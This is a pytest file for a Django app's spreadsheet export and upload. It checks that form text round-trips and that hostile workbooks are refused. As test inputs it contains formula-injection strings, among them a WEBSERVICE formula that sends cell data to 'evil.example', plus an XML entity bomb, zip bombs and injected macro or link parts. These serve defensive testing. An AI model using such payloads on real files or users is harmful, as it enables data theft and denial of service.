"""The spreadsheet itself: every character survives it, nothing in it is computed, and hostile ones are refused."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from core import spreadsheets
from core.translated import SITE_LANGUAGES
from experiences import offline_file
from experiences.enums import State
from experiences.models import Experience
from experiences.models.experience import STORY_LENGTH
from tests.factories.experiences import make_experience

pytestmark = pytest.mark.django_db
SHEET = "xl/worksheets/sheet1.xml"
TEXTS = [
    "=1+1",
    "+34 93 342 77 20",
    "-5 %",
    "@everyone",
    "'quoted",
    '=HYPERLINK("https://evil.example")',
    "l·l, ŀl, “…” « ’ » 你好 🏙️",
    "Two\nlines\n\n- and a list",
    "_x0041_ and _x005F_ as typed",
    "<b>&amp;</b>",
    "00123",
    "2015-01-01",
    "TRUE",
]


def read(content, experience, name="form.xlsx"):
    return offline_file.read(SimpleUploadedFile(name, content), experience)


def changed(content, change):
    """The file after somebody has done something with it in a spreadsheet program."""
    book = load_workbook(io.BytesIO(content))
    change(book.active)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def with_part(content, name, data=b"x", *, instead=None):
    """The file with one more part inside."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename != instead:
                new.writestr(part, old.read(part))
        new.writestr(name, data)
    return target.getvalue()


@pytest.mark.parametrize("text", TEXTS)
def test_texts_come_back_as_they_were_and_none_is_a_formula(draft, text):
    Experience.objects.filter(pk=draft.pk).update(overview_en=text)
    draft.refresh_from_db()

    content = offline_file.workbook(draft)

    assert read(content, draft).values["overview_en"] == text
    sheet = load_workbook(io.BytesIO(content)).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
    # Whoever saves it in another program leaves it as it was.
    assert read(changed(content, lambda _sheet: None), draft).values["overview_en"] == text


def test_every_field_full_in_every_language_fits(draft):
    texts = {
        f"{name}_{code}": "ñ" * STORY_LENGTH for name in ("overview", "actions", "results") for code in SITE_LANGUAGES
    }
    Experience.objects.filter(pk=draft.pk).update(**texts)
    draft.refresh_from_db()

    values = read(offline_file.workbook(draft), draft).values

    assert texts.items() <= values.items()


def test_what_a_spreadsheet_cannot_hold_is_no_difference(draft):
    Experience.objects.filter(pk=draft.pk).update(overview_en="bell \x07 and end \r\n")
    draft.refresh_from_db()

    assert read(offline_file.workbook(draft), draft).values["overview_en"] == "bell  and end"


def test_only_texts_can_be_written_and_names_are_hidden(draft):
    sheet = load_workbook(io.BytesIO(offline_file.workbook(draft))).active

    unlocked = {cell.row for row in sheet.iter_rows() for cell in row if not cell.protection.locked}
    assert unlocked == set(range(offline_file.FIRST_FIELD, offline_file.FIRST_FIELD + len(offline_file.FIELDS)))
    assert all(cell.protection.locked for cell in (*sheet["A"], *sheet["B"], *sheet[1], *sheet[3]))
    assert sheet.protection.sheet
    assert sheet.row_dimensions[1].hidden
    assert sheet.column_dimensions["A"].hidden


def test_language_of_origin_stands_first(city):
    draft = make_experience(State.DRAFT, city=city, source_language="fr", title_fr="Titre")

    sheet = load_workbook(io.BytesIO(offline_file.workbook(draft))).active

    assert [sheet.cell(1, 3).value, sheet.cell(offline_file.FIRST_FIELD, 3).value] == ["fr", "Titre"]


def test_numbers_and_dates_are_read_as_they_are_shown(draft):
    def type_numbers(sheet):
        row = next(cell.row for cell in sheet["A"] if cell.value == "began_year")
        sheet.cell(row, 3).value = 2015.0
        sheet.cell(offline_file.FIRST_FIELD, 3).value = 42

    values = read(changed(offline_file.workbook(draft), type_numbers), draft).values

    assert (values["began_year"], values["title_en"]) == ("2015", "42")


def test_moved_rows_and_notes_on_another_sheet_are_no_harm(draft):
    def move(sheet):
        rows = range(offline_file.FIRST_FIELD, offline_file.FIRST_FIELD + 2)
        for place in range(1, 9):
            first, second = (sheet.cell(row, place) for row in rows)
            first.value, second.value = second.value, first.value
        sheet.parent.create_sheet("Notes", 0)["A1"] = "=1+1"

    values = read(changed(offline_file.workbook(draft), move), draft).values

    assert (values["title_en"], values["summary_en"]) == (draft.title_en, draft.summary_en)


# Refused --------------------------------------------------------------------------------------------------------------


def refusal(content, experience, name="form.xlsx"):
    with pytest.raises(ValidationError) as refused:
        read(content, experience, name)
    return refused.value.code


def test_file_of_another_experience(draft, city):
    other = make_experience(State.DRAFT, city=city)

    assert refusal(offline_file.workbook(other), draft) == "other"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty"),
        (b"title,summary\n", "kind"),
        (b"PK\x03\x04 nonsense", "damaged"),
        (b"%PDF-1.7 %%EOF", "kind"),
        (b"x" * (offline_file.MOST_BYTES + 1), "too_large"),
    ],
)
def test_what_is_no_spreadsheet(draft, content, code):
    assert refusal(content, draft) == code


def test_spreadsheet_of_somebody_else(draft):
    book, target = Workbook(), io.BytesIO()
    book.active["A1"] = "eyJwayI6MX0:1abcde:forged"
    book.save(target)

    assert refusal(target.getvalue(), draft) == "changed"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/externalLinks/externalLink1.xml", "links"),
        ("xl/embeddings/oleObject1.bin", "links"),
        ("xl/activeX/activeX1.xml", "links"),
        ("xl/connections.xml", "links"),
    ],
)
def test_macros_and_links_to_the_outside(draft, name, code):
    assert refusal(with_part(offline_file.workbook(draft), name), draft) == code


def test_bombs_are_not_unpacked(draft):
    content = offline_file.workbook(draft)

    assert refusal(with_part(content, "xl/media/big.bin", b"\0" * (offline_file.MOST_UNPACKED + 1)), draft) == "bomb"
    many = content
    for number in range(2):
        many = with_part(many, f"xl/part{number}.xml")
    target = io.BytesIO(many)
    with zipfile.ZipFile(target, "a") as archive:
        for number in range(spreadsheets.MOST_PARTS):
            archive.writestr(f"xl/more{number}.xml", b"")
    assert refusal(target.getvalue(), draft) == "bomb"


def test_part_that_lies_about_its_size_is_refused(draft):
    size = 20_000_000
    content = with_part(offline_file.workbook(draft), SHEET, b" " * size, instead=SHEET)

    lying = content.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))

    assert refusal(content, draft) == "bomb"
    assert refusal(lying, draft) == "damaged"


def test_entities_are_not_expanded(draft):
    content = offline_file.workbook(draft)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read(SHEET).decode()
    declared = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    bomb = declared + sheet.replace("The night school", "&b;")

    assert refusal(with_part(content, SHEET, bomb.encode(), instead=SHEET), draft) == "damaged"


def test_formula_is_not_a_text(draft):
    def compute(sheet):
        sheet.cell(offline_file.FIRST_FIELD, 3).value = '=WEBSERVICE("https://evil.example/"&A1)'

    assert refusal(changed(offline_file.workbook(draft), compute), draft) == "formula"


@pytest.mark.parametrize(
    ("place", "value", "code"),
    [
        ((offline_file.FIRST_FIELD, 1), "state", "rows"),
        ((offline_file.FIRST_FIELD, 1), "summary", "rows"),
        ((offline_file.FIRST_FIELD, 1), None, "rows"),
        ((40, 3), "A note below the form", "rows"),
        ((1, 3), "de", "changed"),
        ((1, 4), "en", "changed"),
        ((1, 1), None, "changed"),
        ((1, 1), "a:b:c", "changed"),
    ],
)
def test_changed_names_of_rows_and_columns(draft, place, value, code):
    def change(sheet):
        sheet.cell(*place).value = value

    assert refusal(changed(offline_file.workbook(draft), change), draft) == code


def test_removed_row_is_named(draft):
    content = changed(offline_file.workbook(draft), lambda sheet: sheet.delete_rows(offline_file.FIRST_FIELD))

    with pytest.raises(ValidationError, match="Rows of the form are missing from this spreadsheet: Title"):
        read(content, draft)


def test_far_away_cells_cost_nothing(draft):
    def go_far(sheet):
        sheet.cell(1_048_576, 16_384).value = "far"

    assert read(changed(offline_file.workbook(draft), go_far), draft).values["title_en"] == draft.title_en
